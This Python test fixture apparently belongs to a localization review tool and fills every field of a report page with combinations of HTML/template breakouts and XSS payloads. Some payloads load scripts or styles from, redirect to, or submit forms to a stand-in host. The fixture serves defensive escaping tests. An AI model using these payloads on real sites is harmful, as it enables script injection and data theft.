# SPDX-License-Identifier: MIT
"""Texts that try to run a script or to call out, and a page that has one in every place a stranger can write."""

from itertools import product

from l10n.model import Finding, Kind, Severity
from l10n.report.commits import Commit
from l10n.report.drift import Drift, Outdated, Place, Shift, TermShift
from l10n.report.ledger import Answer, Ledger, LedgerRow, RowKind
from l10n.report.review import (
    Kept,
    ReviewConcept,
    ReviewDocument,
    ReviewPage,
    ReviewQuantity,
    ReviewReason,
    ReviewTerm,
    ReviewUnit,
    Said,
    Setting,
    State,
    TermUse,
    Waiver,
)
from l10n.report.status import DocumentStatus

_BREAKOUTS = (
    "",
    '">',
    "'>",
    "</script>",
    "</style>",
    "</title>",
    "</textarea>",
    "</svg>",
    "-->",
    "]]>",
    "}}",
    "%}",
    "\u2028",
    "</rt></ruby>",
)
_PAYLOADS = (
    "<script>owned++</script>",
    "<script src=https://example.invalid/x.js></script>",
    "<img src=https://example.invalid/x.png onerror=owned++>",
    "<svg onload=owned++><use href=https://example.invalid/x.svg#a></svg>",
    "<svg><script>owned++</script></svg>",
    "<a href=javascript:owned++ id=text>x</a>",
    "<iframe srcdoc='<script>parent.owned++</script>'></iframe>",
    "<iframe src=javascript:parent.owned++></iframe>",
    "<math><mi xlink:href=javascript:owned++>x</mi></math>",
    "<details open ontoggle=owned++>x",
    "<input autofocus onfocus=owned++>",
    "<body onload=owned++>",
    "<link rel=stylesheet href=https://example.invalid/x.css>",
    "<style>@import url(https://example.invalid/x.css)</style>",
    "<base href=https://example.invalid/>",
    "<meta http-equiv=refresh content='0;url=https://example.invalid/'>",
    "<form action=https://example.invalid/><button id=save>x</button></form>",
    "{{ ''.__class__.__mro__ }}{% for x in y %}${owned++}<!--",
    '" onmouseover="owned++" autofocus onfocus="owned++',
    "' style='background:url(https://example.invalid/x.png)",
)
ATTACKS = tuple(f"{breakout}{payload}" for breakout, payload in product(_BREAKOUTS, _PAYLOADS))


def hostile_page():
    """A page in which every text is an attack, each attack in every text."""
    units = tuple(_unit(attack, number) for number, attack in enumerate(ATTACKS))
    first = ATTACKS[0]
    return ReviewPage(
        title=first,
        documents=(
            ReviewDocument(
                f"{ATTACKS[1]}.md",
                f"{ATTACKS[2]}.po",
                units,
                findings=tuple(each.findings[0] for each in units[:3]),
                markup=True,
                after=_kept(ATTACKS[3]),
            ),
        ),
        statuses=(DocumentStatus(ATTACKS[21], ATTACKS[22], 1, 1, 1, 1, 0, 0),),
        concepts=tuple(ReviewConcept(a, a, (a,), (a,), (a,), a, a, a) for a in ATTACKS),
        uses=tuple(TermUse(number, 1, {attack: 1, first: 2}) for number, attack in enumerate(ATTACKS)),
        source_language=ATTACKS[18],
        target_language=ATTACKS[19],
        since=ATTACKS[38],
        drift=_drift(),
        ledgers=(_ledger(),),
        rules={attack: f"{attack}\n\n{attack}" for attack in ATTACKS},
        project=ATTACKS[39],
    )


def _unit(attack, number):
    whole = (0, len(attack))
    finding = Finding(
        attack, Severity.ERROR, attack, attack, 1, attack, attack, attack, whole, whole, (attack,), attack
    )
    return ReviewUnit(
        f"{attack}{number}",
        attack,
        context=attack,
        state=State.FUZZY if number % 3 == 0 else State.TRANSLATED,
        kind=Kind.HEADING if number % 5 == 0 else Kind.LIST_ITEM if number % 5 == 1 else Kind.PARAGRAPH,
        previous=ATTACKS[number - 1],
        reading=attack,
        findings=(finding,),
        waivers=(Waiver(attack, attack),),
        terms=(ReviewTerm(number, (whole,), ((0, 1), (3, 9))),),
        quantities=(ReviewQuantity(attack, whole, whole),),
        comments=(attack,),
        said=(attack,),
        approval=Said(attack, attack, "reviewed") if number % 2 else None,
        lapsed=(Said(attack, attack, attack),),
        remarks=(Said(attack, attack, attack),),
        reasons=(ReviewReason(attack, attack, attack, attack),),
        setting=Setting(marker=attack, before=_kept(attack), **_cell(attack, number)),
        changed=True,
    )


def _drift():
    """Every attack as a commit's author and subject, as an English of before and now, as a term and its row."""
    changes = [(attack, Commit(attack, attack, attack)) for attack in ATTACKS]
    return Drift(
        tuple(Shift(a, a, a, a, a, change, (TermShift(a, (a,), (a,)),)) for a, change in changes),
        tuple(Outdated(a, a, a, a, change, (Place(a, 1, a),)) for a, change in changes),
    )


def _ledger():
    rows = (
        LedgerRow(RowKind.NAME, Answer.OPEN, a, 1, a, f"{a}{number}", a, (0, 1), (a,), ((0, 1),), a)
        for number, a in enumerate(ATTACKS)
    )
    return Ledger(ATTACKS[1], ATTACKS[2], ATTACKS[19], tuple(rows))


def _kept(attack):
    return Kept(attack), Kept(attack, attack)


def _cell(attack, number):
    return {"row": number, "column": number, "beside": ((1, attack),)} if number % 7 == 0 else {}
